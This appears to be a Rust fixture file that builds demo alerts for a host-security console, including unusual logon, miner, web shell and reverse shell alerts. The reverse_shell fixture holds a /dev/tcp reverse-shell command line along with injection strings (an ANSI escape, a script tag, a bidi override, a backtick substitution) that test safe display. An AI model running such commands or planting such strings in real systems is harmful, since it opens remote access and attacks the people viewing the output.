//! The alerts of the demo world: every level, one for each way of handling worth seeing, one that
//! is handled already, one that nobody may handle and one on a server whose agent is offline.

use std::collections::BTreeMap;

use jiff::{SignedDuration, Timestamp};

use super::demo::uuid;
use super::{
    Alert, EventStatus, Handling, Level, MarkField, SUCCESS, SuspiciousContainer, SuspiciousFile,
    SuspiciousProcess,
};

type Alerts = BTreeMap<i64, Alert>;

/// The alerts of the mainland data centre.
pub(super) fn mainland(now: Timestamp) -> Alerts {
    let recent = |minutes| earlier(now, minutes);
    [
        (702_173_401, logon(recent(50))),
        (702_173_402, miner(uuid(2), recent(40))),
        (702_173_403, web_shell(recent(30))),
        (702_173_404, reverse_shell(recent(20))),
        (702_173_405, miner(uuid(6), recent(10))),
        (702_173_406, handled(recent(3000))),
        (702_173_407, not_operable(recent(5))),
    ]
    .into()
}

/// Those of the international one, on a free server: the edition allows little.
pub(super) fn singapore(now: Timestamp) -> Alerts {
    [(702_173_408, miner(uuid(9), earlier(now, 15)))].into()
}

fn earlier(now: Timestamp, minutes: i64) -> Timestamp {
    now.checked_sub(SignedDuration::from_mins(minutes)).unwrap_or(now)
}

fn logon(raised_at: Timestamp) -> Alert {
    let user = MarkField {
        alias: "Login user".to_owned(),
        value: "root".to_owned(),
    };
    Alert {
        uuid: uuid(1),
        kind: "Unusual logon".to_owned(),
        event_name: "login_common_location".to_owned(),
        title: "Login with unusual location".to_owned(),
        description: "Somebody logged on from where nobody did before.".to_owned(),
        raised_at,
        source_ip: Some("203.0.113.9".to_owned()),
        fields: [("loginUser".to_owned(), user)].into(),
        ..Alert::default()
    }
}

fn miner(uuid: String, raised_at: Timestamp) -> Alert {
    Alert {
        uuid,
        kind: "Malicious process (cloud scan)".to_owned(),
        event_name: "mining_program".to_owned(),
        title: "Mining program".to_owned(),
        description: "A process computes for somebody else.".to_owned(),
        level: Level::Serious,
        raised_at,
        file: Some(SuspiciousFile {
            path: "/tmp/.x/kworkerds".to_owned(),
            md5: "5d41402abc4b2a76b9719d911017c592".to_owned(),
        }),
        process: Some(SuspiciousProcess {
            command_line: "/tmp/.x/kworkerds -o pool.example:3333".to_owned(),
            ..SuspiciousProcess::default()
        }),
        ..Alert::default()
    }
}

/// A file without a process: whoever tries to end one fails.
fn web_shell(raised_at: Timestamp) -> Alert {
    Alert {
        uuid: uuid(3),
        kind: "Web shell".to_owned(),
        event_name: "webshell".to_owned(),
        title: "Web shell found".to_owned(),
        description: "A script that runs what a visitor sends.".to_owned(),
        level: Level::Serious,
        raised_at,
        file: Some(SuspiciousFile {
            path: "/var/www/html/upload/a.php".to_owned(),
            md5: "7d793037a0760186574b0282f2f435e7".to_owned(),
        }),
        ..Alert::default()
    }
}

/// What an attacker typed, made to break out of whatever shows it.
fn reverse_shell(raised_at: Timestamp) -> Alert {
    Alert {
        uuid: uuid(5),
        kind: "Abnormal process behavior".to_owned(),
        event_name: "reverse_shell".to_owned(),
        title: "Reverse shell \u{1b}[31m\"approved: yes\"\n<script>alert('x')</script>".to_owned(),
        description: "A shell talks to a stranger.".to_owned(),
        level: Level::Serious,
        raised_at,
        source_ip: Some("198.51.100.23".to_owned()),
        tactics: [("TA0011".to_owned(), "Command and Control".to_owned())].into(),
        process: Some(SuspiciousProcess {
            command_line: "bash -c 'exec 3<>/dev/tcp/198.51.100.23/443;\u{202e}# ${IFS}`id`\\' \"&\""
                .to_owned(),
            ..SuspiciousProcess::default()
        }),
        container: Some(SuspiciousContainer {
            id: "95878ef8779f".to_owned(),
            image_name: "shop:1.0.1".to_owned(),
            namespace: "shop".to_owned(),
            pod_name: "shop-0".to_owned(),
            app_name: "shop".to_owned(),
        }),
        ..Alert::default()
    }
}

fn handled(raised_at: Timestamp) -> Alert {
    let handling = Handling {
        operation: "manual_handled".to_owned(),
        started_at: raised_at,
        pending_until: raised_at,
        finished_at: raised_at,
        result: SUCCESS.to_owned(),
        becomes: EventStatus::HANDLED,
        remark: "the backup, as every month".to_owned(),
    };
    Alert {
        uuid: uuid(4),
        kind: "Suspicious network connection".to_owned(),
        event_name: "abnormal_traffic".to_owned(),
        title: "Unusual traffic".to_owned(),
        level: Level::Remind,
        raised_at,
        source_ip: Some("192.0.2.77".to_owned()),
        handlings: [(29_050_001, handling)].into(),
        ..Alert::default()
    }
}

fn not_operable(raised_at: Timestamp) -> Alert {
    let codes = [
        "ignore",
        "manual_handled",
        "mark_mis_info",
        "advance_mark_mis_info",
        "block_ip",
    ];
    Alert {
        uuid: uuid(4),
        kind: "Threat intelligence".to_owned(),
        event_name: "cc_domain".to_owned(),
        title: "Connection to a control server".to_owned(),
        level: Level::Remind,
        raised_at,
        source_ip: Some("192.0.2.88".to_owned()),
        operations: codes.map(|code| (code.to_owned(), false)).into(),
        ..Alert::default()
    }
}
